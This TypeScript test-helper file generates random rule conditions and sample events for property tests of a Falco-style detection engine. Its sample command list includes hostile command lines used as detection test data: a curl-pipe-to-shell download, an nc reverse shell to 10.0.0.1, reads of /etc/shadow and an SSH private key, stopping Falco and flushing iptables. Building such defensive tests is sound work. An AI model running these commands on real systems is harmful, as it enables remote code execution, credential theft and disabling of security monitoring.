/**
 * Generators shared by the property tests: conditions built from the grammar's pieces, and samples
 * (the events Falco would see) with varied command lines, parents, users, containers, environment
 * and explicit field values, including fields set to "no value".
 *
 * Conditions are token lists joined by a separator placeholder (SEP), so the blanks between tokens
 * can be substituted (tabs, line breaks) without touching quoted strings; `spaced` gives the plain
 * text.
 */
import fc from 'fast-check';
import type { Sample, SampleContainer, SampleUser } from '../../src/engine/sample/types';

export const SEP = '\u0001';
export const join = (...parts: string[]): string => parts.join(SEP);
export const spaced = (c: string): string => c.split(SEP).join(' ');

export interface ConditionOptions {
  /**
   * Only constructs libsinsp's `ast::as_string` (printCondition) prints back as the same
   * condition. The printer is lossy by design (escaping.cpp escape_str, ast.cpp string_visitor;
   * test/oracle/parser-printer.test.ts), for exactly these, which this option leaves out:
   *  - values containing `(`, `)` or `,`, and the empty value: printed bare / as nothing;
   *  - a value ending in a backslash: printed `"…\\"`, which never closes;
   *  - quoted transformer arguments that need no escaping (`concat(proc.name, "x")`): printed bare,
   *    and a transformer argument cannot be a bare word;
   *  - `not` over a `not` (`not (not x)`, `not not x`): printed as a run of `not`s, which the parser
   *    folds by parity, so the printed text means the same but is a different tree.
   */
  printable?: boolean;
}

/** A generated condition: its text (SEP-joined) and the kind of its root, to place `not`s. */
interface Cond { t: string; kind: 'check' | 'paren' | 'not' | 'and' | 'or' }

/**
 * Conditions over `check`: n-ary `and`/`or` (mixing precedence: an `or` joined by `and` without
 * parentheses), `not`, parentheses. Printable conditions put `not` only on a check or on a
 * parenthesised `and`/`or`, so no `not` ever has a `not` below it.
 */
export function conditionOf(check: fc.Arbitrary<string>, options: ConditionOptions = {}): fc.Arbitrary<string> {
  const leaf = check.map((t): Cond => ({ t, kind: 'check' }));
  const tree = fc.letrec((tie) => {
    const expr = tie('expr') as fc.Arbitrary<Cond>;
    const junction = (word: 'and' | 'or') => fc.array(expr, { minLength: 2, maxLength: 4 })
      .map((xs): Cond => ({ t: xs.map((x) => x.t).join(`${SEP}${word}${SEP}`), kind: word === 'or' || xs.some((x) => x.kind === 'or') ? 'or' : 'and' }));
    const negations = options.printable
      ? [
        leaf.map((x): Cond => ({ t: join('not', x.t), kind: 'not' })),
        junction('and').map((x): Cond => ({ t: join('not', '(', x.t, ')'), kind: 'not' })),
        junction('or').map((x): Cond => ({ t: join('not', '(', x.t, ')'), kind: 'not' })),
      ]
      : [
        expr.map((x): Cond => ({ t: join('not', x.t), kind: x.kind === 'and' || x.kind === 'or' ? x.kind : 'not' })),
        expr.map((x): Cond => ({ t: join('not', '(', x.t, ')'), kind: 'not' })),
      ];
    return {
      expr: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        leaf,
        junction('and'),
        junction('or'),
        ...negations,
        expr.map((x): Cond => ({ t: join('(', x.t, ')'), kind: 'paren' })),
      ),
    };
  }).expr as fc.Arbitrary<Cond>;
  return tree.map((c) => c.t);
}

// ---------------------------------------------------------------------------------------------
// Checks that exercise the grammar (the parser properties): any field, any operator, any value.

const ident = fc.constantFrom('m', 'spawned_process', 'notb', 'and_macro', 'or2', 'x_1');
/**
 * A list name after a modifier: `= oneof and_macro` is NOT a modifier in libsinsp (and/or/not
 * followed by `_` counts as a keyword, parser.cpp bool_keyword_follows), so leave that one out.
 */
const listName = fc.constantFrom('m', 'spawned_process', 'notb', 'or2', 'x_1', 'oneof');
const field = fc.constantFrom('proc.name', 'proc.args', 'fd.name', 'user.uid', 'evt.type', 'proc.cmdline');
const fieldWithArg = fc.oneof(
  field,
  fc.constantFrom('proc.aname[2]', 'proc.env[HOME]', 'proc.env["A B"]', "proc.env['x']", 'proc.args[0]'),
);
/** Bare words: anything but blanks, ( ) " ' = , — including keywords, backslashes and unicode. */
const bare = fc.oneof(
  fc.constantFrom('bash', 'not', 'and', 'oneof', '/usr/bin/*', 'C:\\tmp', '[kthreadd]', 'é€', '-e', '<NA>', '0x1F'),
  fc.stringMatching(/^[a-z0-9/_.*\-]{1,8}$/),
);
const QUOTED_PARTS = ['a', ' ', 'b c', '\\"', "'", '\\\\x', '\\n', '\\t', '\\/', '\\x41', '=', ',', '(', ')', 'é'];
/** Quoted strings with every supported escape. */
const quotedOf = (parts: string[], minLength: number) => fc.array(fc.constantFrom(...parts), { minLength, maxLength: 5 }).map((ps) => `"${ps.join('')}"`);
const number = fc.constantFrom('0', '1', '-5', '+3', '1.5', '1e+3', '0x10', '42');

export function grammarCheck(options: ConditionOptions = {}): fc.Arbitrary<string> {
  const printable = options.printable === true;
  // Printable: no ( ) , and never empty (see ConditionOptions).
  const quoted = printable ? quotedOf(QUOTED_PARTS.filter((p) => ![',', '(', ')'].includes(p)), 1) : quotedOf(QUOTED_PARTS, 0);
  const value = fc.oneof(bare, quoted);
  /** Transformer string arguments as_string keeps quoted: ones with a blank, `=` or an escape. */
  const argString = printable ? fc.constantFrom('" "', '"a b"', '"x=y"', '", "', '"\\t"') : quoted;
  const transformer: fc.Arbitrary<string> = fc.letrec((tie) => ({
    t: fc.oneof(
      { depthSize: 'small' },
      fc.tuple(fc.constantFrom('tolower', 'toupper', 'b64', 'basename', 'len'), field).map(([t, f]) => `${t}(${f})`),
      fc.tuple(fc.constantFrom('tolower', 'toupper'), tie('t')).map(([t, inner]) => `${t}(${inner as string})`),
      fc.tuple(argString, fc.array(fc.oneof(field, argString, number), { maxLength: 3 }))
        .map(([sep, items]) => `join(${sep}, (${items.join(', ')}))`),
      fc.tuple(field, argString).map(([f, q]) => `concat(${f}, ${q})`),
    ),
  })).t;
  const operand = fc.oneof({ weight: 4, arbitrary: fieldWithArg }, { weight: 1, arbitrary: transformer });
  const list = fc.array(value, { maxLength: 4 }).map((vs) => `(${vs.join(', ')})`);
  return fc.oneof(
    operand.map((o) => join(o, 'exists')),
    fc.tuple(operand, fc.constantFrom('=', '==', '!=', 'contains', 'icontains', 'startswith', 'endswith', 'glob', 'iglob', 'regex'), value)
      .map(([o, op, v]) => join(o, op, v)),
    fc.tuple(operand, fc.constantFrom('<', '<=', '>', '>='), number).map(([o, op, n]) => join(o, op, n)),
    fc.tuple(operand, fc.constantFrom('in', 'intersects', 'pmatch'), fc.oneof(list, listName))
      .map(([o, op, r]) => join(o, op, r)),
    fc.tuple(operand, fc.constantFrom('=', 'contains', 'startswith'), fc.constantFrom('oneof', 'anyof', 'allof'), fc.oneof(list, listName))
      .map(([o, op, m, r]) => join(o, op, m, r)),
    fc.tuple(operand, fc.constantFrom('=', '!='), fc.constantFrom('val(proc.pname)', 'tolower(proc.name)'))
      .map(([o, op, r]) => join(o, op, r)),
    ident,
  );
}

/** Conditions over every grammar construct (the parser's properties). */
export const grammarCondition = (options: ConditionOptions = {}) => conditionOf(grammarCheck(options), options);

// ---------------------------------------------------------------------------------------------
// Checks that compile and decide something on the generated samples (the evaluator's properties):
// fields of each type with operators and values of that type, values taken from what the samples
// contain (so checks are true as often as false), fields the samples leave without a value, and a
// few type mismatches and bad values, which are compile errors.

const STRING_FIELDS = [
  'proc.name', 'proc.exe', 'proc.exepath', 'proc.args', 'proc.cmdline', 'proc.exeline', 'proc.pname', 'proc.pexe',
  'proc.pcmdline', 'proc.aname', 'proc.aname[2]', 'proc.aname[9]', 'proc.aexe[1]', 'proc.args[0]', 'proc.args[1]',
  'proc.cwd', 'proc.env', 'proc.env[HOME]', 'proc.env[LD_PRELOAD]', 'proc.sname', 'user.name', 'user.homedir',
  'fd.name', 'fd.directory', 'container.id', 'container.name', 'container.image.repository', 'k8s.ns.name',
  'tolower(proc.cmdline)', 'toupper(proc.name)', 'basename(proc.exepath)', 'b64(proc.args[0])',
  'concat(proc.name, " ", proc.args)',
];
const STRING_VALUES = [
  'cat', 'bash', 'sh', 'sshd', 'sudo', 'iptables', 'systemctl', 'curl', 'nc', 'python3', 'containerd-shim', 'CAT',
  '/etc/shadow', '/etc', '/usr/bin/cat', '/usr/bin', '/usr/bin/*', '/bin/sh', '*sh*', '*.so', '/tmp', '/tmp/x.so', '/root',
  '/root/', 'root', 'www-data', 'user', '<NA>', 'host', 'nginx', 'docker.io/library/nginx', 'default', '-c', '-F',
  'falco', 'stop', 'Y2F0', '"cat /etc/shadow"', '"-c id"', '"a b"', '"HOME=/root"', '""', 'c', 'falco-helper',
];
/** `"("` is a bad pattern (compile error); patterns with parentheses are not printable (see above). */
const REGEXES = ['"^ca"', '".*sh$"', '"^/usr/bin/[a-z]+$"', '"(a|b)+"', '"("'];
const NUMBER_FIELDS = ['user.uid', 'user.loginuid', 'proc.pid', 'proc.ppid', 'proc.tty', 'proc.cmdnargs', 'evt.num', 'proc.apid[1]', 'proc.apid[9]', 'len(proc.name)', 'len(fd.name)'];
/** `5e+1` parses but is no integer (compile error), as is `x` after `=` (after `<` it does not parse). */
const NUMBERS = ['0', '1', '2', '3', '33', '1000', '65534', '-1', '34816', '4294967295', '5e+1'];
const BOOL_FIELDS = ['proc.is_exe_writable', 'proc.is_exe_upper_layer', 'container.privileged'];
const EVENT_TYPES = ['execve', 'execveat', 'open', 'openat', 'connect'];

const pick = <T>(xs: readonly T[]) => fc.constantFrom(...xs);
const listOf = (values: fc.Arbitrary<string>) => fc.array(values, { maxLength: 3 }).map((vs) => `(${vs.join(', ')})`);

export function evaluationCheck(options: ConditionOptions = {}): fc.Arbitrary<string> {
  const printable = options.printable === true;
  const strings = printable ? STRING_VALUES.filter((v) => v !== '""') : STRING_VALUES;
  const sValue = pick(strings);
  const sField = pick(STRING_FIELDS);
  const nField = pick(NUMBER_FIELDS);
  return fc.oneof(
    { weight: 6, arbitrary: fc.tuple(sField, pick(['=', '==', '!=', 'contains', 'icontains', 'startswith', 'endswith', 'glob', 'iglob']), sValue).map(([f, op, v]) => join(f, op, v)) },
    { weight: 1, arbitrary: fc.tuple(sField, pick(printable ? REGEXES.filter((r) => !/[(),]/.test(r)) : REGEXES)).map(([f, v]) => join(f, 'regex', v)) },
    { weight: 2, arbitrary: fc.tuple(sField, pick(['in', 'intersects']), listOf(sValue)).map(([f, op, l]) => join(f, op, l)) },
    { weight: 1, arbitrary: fc.tuple(sField, listOf(pick(['/etc', '/usr/bin', '/tmp', '/root', '/etc/shadow']))).map(([f, l]) => join(f, 'pmatch', l)) },
    { weight: 1, arbitrary: fc.tuple(sField, pick(['=', 'contains', 'startswith', 'endswith']), pick(['oneof', 'anyof', 'allof']), listOf(sValue)).map(([f, op, m, l]) => join(f, op, m, l)) },
    // strcmp order against a number literal (the only right-hand side `<` takes besides transformers)
    { weight: 1, arbitrary: fc.tuple(sField, pick(['<', '>=']), pick(['5', '0'])).map(([f, op, v]) => join(f, op, v)) },
    { weight: 2, arbitrary: fc.oneof(sField, nField, pick(BOOL_FIELDS)).map((f) => join(f, 'exists')) },
    { weight: 3, arbitrary: fc.tuple(nField, pick(['=', '!=', '<', '<=', '>', '>=']), pick(NUMBERS)).map(([f, op, v]) => join(f, op, v)) },
    { weight: 1, arbitrary: fc.tuple(nField, pick(['=', '!='])).map(([f, op]) => join(f, op, 'x')) },
    { weight: 1, arbitrary: fc.tuple(nField, listOf(pick(NUMBERS))).map(([f, l]) => join(f, 'in', l)) },
    { weight: 1, arbitrary: fc.tuple(pick(BOOL_FIELDS), pick(['=', '!=']), pick(['true', 'false'])).map(([f, op, v]) => join(f, op, v)) },
    { weight: 2, arbitrary: fc.tuple(pick(['=', '!=']), pick(EVENT_TYPES)).map(([op, v]) => join('evt.type', op, v)) },
    { weight: 1, arbitrary: listOf(pick(EVENT_TYPES)).map((l) => join('evt.type', 'in', l)) },
    {
      weight: 1,
      arbitrary: pick(['proc.name = val(proc.pname)', 'proc.exe = val(proc.exepath)', 'tolower(proc.name) = tolower(proc.pname)', 'user.uid = val(proc.pid)', 'proc.cmdline contains val(proc.name)'])
        .map((t) => t.split(' ').join(SEP)),
    },
  );
}

/** Conditions that mostly compile, over the samples' own values (the evaluator's properties). */
export const evaluationCondition = (options: ConditionOptions = {}) => conditionOf(evaluationCheck(options), options);

/** Blanks libsinsp skips between tokens: space, tab, line breaks (`\r\n` is two), backspace. */
export const blanks = fc.array(fc.constantFrom(' ', '\t', '\n', '\r\n', '\r', '  ', '\b'), { minLength: 1, maxLength: 3 }).map((b) => b.join(''));

// ---------------------------------------------------------------------------------------------
// Samples: what the person types and the context it runs in, turned into events by sampleToEvent.

const COMMANDS = [
  'cat /etc/shadow', 'bash -c "id"', 'sh', 'iptables -F', 'systemctl stop falco', 'systemctl reload falco-helper-stopwatch.service',
  'python3 -c "print(1)"', 'curl http://example.com/x.sh | sh', 'sudo cat /etc/shadow', 'nc -e /bin/sh 10.0.0.1 4444',
  'ls -la /tmp', 'kube-controller-manager --v=2', "echo 'a b'", 'env FOO=1 ls', 'LD_PRELOAD=/tmp/x.so ls', '/usr/bin/cat /root/.ssh/id_rsa',
  'sshd', 'CAT', 'falco', 'base64 -d Y2F0',
];
const PARENTS = ['bash', '-bash', 'sshd: root@pts/0', 'containerd-shim', 'php-fpm: pool www', 'cron', 'systemd', 'sudo cat', 'sh -c cat'];
const USERS: SampleUser[] = ['root', 'www-data', 'user', { uid: 1000 }, { uid: 4242 }, { name: 'user', loginuid: 1000 }, { uid: 0, loginuid: -1 }];
const CONTAINERS: SampleContainer[] = ['host', 'nginx:1.25', 'docker.io/library/busybox:1.36', { id: 'abc123def456', image: 'nginx', name: 'web', k8sNamespace: 'default', k8sPod: 'web-1' }];
const ENV: Record<string, string>[] = [{}, { HOME: '/root' }, { LD_PRELOAD: '/tmp/x.so' }, { HOME: '/tmp', FOO: '' }];
/** Explicit values a sample may set; null = the field has no value on this event. */
const FIELD_VALUES: [string, (string | null)[]][] = [
  ['fd.name', ['/etc/shadow', '/tmp/x.so', '', null]],
  ['fd.directory', ['/etc', null]],
  ['evt.type', ['openat', 'execve', 'connect', null]],
  ['proc.pname', [null, 'sshd']],
  ['proc.name', ['cat', null]],
  ['user.name', [null, '<NA>']],
  ['proc.env[HOME]', [null, '/home/x']],
  ['proc.aname[2]', [null]],
  ['user.uid', ['33', null]],
  ['proc.is_exe_writable', ['true', null]],
  ['container.id', ['host', null]],
];

const fieldsArb = fc.subarray(FIELD_VALUES, { maxLength: 3 }).chain((chosen) =>
  fc.tuple(...chosen.map(([name, values]) => fc.constantFrom(...values).map((v) => [name, v] as const)))
    .map((pairs) => Object.fromEntries(pairs) as Record<string, string | null>));

export const sampleArb: fc.Arbitrary<Sample> = fc.record(
  {
    command: pick(COMMANDS),
    parent: pick(PARENTS),
    parentMissing: fc.constant(true),
    ancestors: fc.subarray(['sshd', 'systemd', 'containerd'], { maxLength: 2 }),
    user: pick(USERS),
    container: pick(CONTAINERS),
    cwd: pick(['/', '/tmp', '/root']),
    tty: pick<string | number>(['pts/0', 'none', 34817]),
    env: pick(ENV),
    fields: fieldsArb,
  },
  { requiredKeys: ['command'] },
).map((s) => {
  const sample: Sample = { id: 'p', ...s };
  // A sample has either no parent or one (with ancestors).
  if (sample.parentMissing) { delete sample.parent; delete sample.ancestors; }
  return sample;
});
